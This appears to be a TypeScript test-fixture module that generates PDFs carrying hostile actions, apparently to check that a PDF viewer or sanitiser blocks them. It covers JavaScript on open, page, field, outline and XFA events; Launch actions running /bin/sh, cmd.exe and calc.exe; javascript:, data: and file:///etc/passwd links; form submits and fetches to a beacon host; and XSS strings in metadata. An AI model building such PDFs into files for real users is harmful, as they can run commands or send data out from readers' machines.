import { BEACON } from './beacon.ts';
import type { HostileKinds } from './kinds.ts';
import { onePage } from './write-pdf.ts';

/** Scripts that a reader would notice: a dialog, a request, a mark on the window. */
const SCRIPT = `app.alert('run'); window.scriptRan = 1; fetch('${BEACON}/js'); this.submitForm('${BEACON}/js');`;
const JS = `<< /S /JavaScript /JS (${SCRIPT.replaceAll(/[()]/g, '\\$&')}) >>`;
const RECT = '/Rect [0 0 595 842]';

const opening = (action: string): Buffer => onePage({ catalog: `/OpenAction ${action}` });
const linking = (action: string): Buffer =>
  onePage({ page: `/Annots [<< /Type /Annot /Subtype /Link ${RECT} /Border [0 0 0] /A ${action} >>]` });
const field = (entries: string): Buffer =>
  onePage({
    catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true /DA (/F1 10 Tf) /CO [6 0 R] >>',
    page: '/Annots [6 0 R]',
    extra: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (1) /Rect [60 60 300 90] /P 3 0 R ${entries} >>`,
    ],
  });
const xfa = (body: string): Buffer =>
  onePage({
    catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
    extra: [
      {
        entries: '',
        data: `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a">${body}</subform></template></xdp:xdp>`,
      },
    ],
  });

/** What a file would have its reader do: run, start, send, fetch. */
export const ACTIONS: HostileKinds = {
  'script-on-opening': () => opening(JS),
  'script-by-name': () => onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${JS}] >> >>` }),
  'script-of-the-page': () => onePage({ page: `/AA << /O ${JS} /C ${JS} >>` }),
  'script-of-the-document': () => onePage({ catalog: `/AA << /WC ${JS} /WS ${JS} /DP ${JS} >>` }),
  'script-in-a-chain': () => opening(`<< /S /GoTo /D [3 0 R /Fit] /Next [${JS} ${JS}] >>`),
  'script-in-the-outline': () =>
    onePage({
      catalog: '/Outlines 6 0 R',
      extra: [
        '<< /First 7 0 R /Last 7 0 R /Count 1 >>',
        `<< /Title (<img src=x onerror=alert\\(1\\)>) /Parent 6 0 R /A ${JS} >>`,
      ],
    }),
  'script-of-a-field': () => field(`/AA << /K ${JS} /F ${JS} /V ${JS} /C ${JS} >>`),
  'script-of-a-button': () => field(`/FT /Btn /Ff 65536 /A ${JS} /MK << /CA (OK) >>`),
  'script-in-a-link': () => linking(JS),
  'link-javascript': () => linking(`<< /S /URI /URI (javascript:alert\\(1\\)) >>`),
  'link-data': () => linking('<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>'),
  'link-file': () => linking('<< /S /URI /URI (file:///etc/passwd) >>'),
  'link-out': () => linking(`<< /S /URI /URI (${BEACON}/link) >>`),
  'uri-on-opening': () => opening(`<< /S /URI /URI (${BEACON}/open) >>`),
  launch: () => opening('<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  'launch-link': () => linking('<< /S /Launch /F << /Type /Filespec /F (calc.exe) >> >>'),
  'submit-form': () => opening(`<< /S /SubmitForm /F << /FS /URL /F (${BEACON}/form) >> /Flags 4 >>`),
  'import-data': () => opening(`<< /S /ImportData /F << /FS /URL /F (${BEACON}/fdf) >> >>`),
  'remote-target': () => opening(`<< /S /GoToR /F << /FS /URL /F (${BEACON}/r.pdf) >> /D [0 /Fit] >>`),
  'embedded-target': () => opening('<< /S /GoToE /T << /R /C /N (a) /T << /R /P >> >> /D [0 /Fit] >>'),
  rendition: () =>
    opening(
      `<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${BEACON}/v) >> >> >> /JS (${'app.alert\\(1\\)'}) >>`,
    ),
  'named-print': () => opening('<< /S /Named /N /Print >>'),
  'xfa-script': () =>
    xfa(
      `<event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event>`,
    ),
  'xfa-submit': () => xfa(`<event activity="docReady"><submit format="xml" target="${BEACON}/xfa"/></event>`),
  'words-of-markup': () =>
    onePage({
      content: `BT /F1 10 Tf 40 700 Td (<script>alert\\(1\\)</script><img src=x onerror="window.scriptRan=1">) Tj ET`,
      trailer: `/Info << /Title (<script>window.scriptRan=1</script>) /Author (" onload="alert\\(1\\)) >>`,
    }),
};
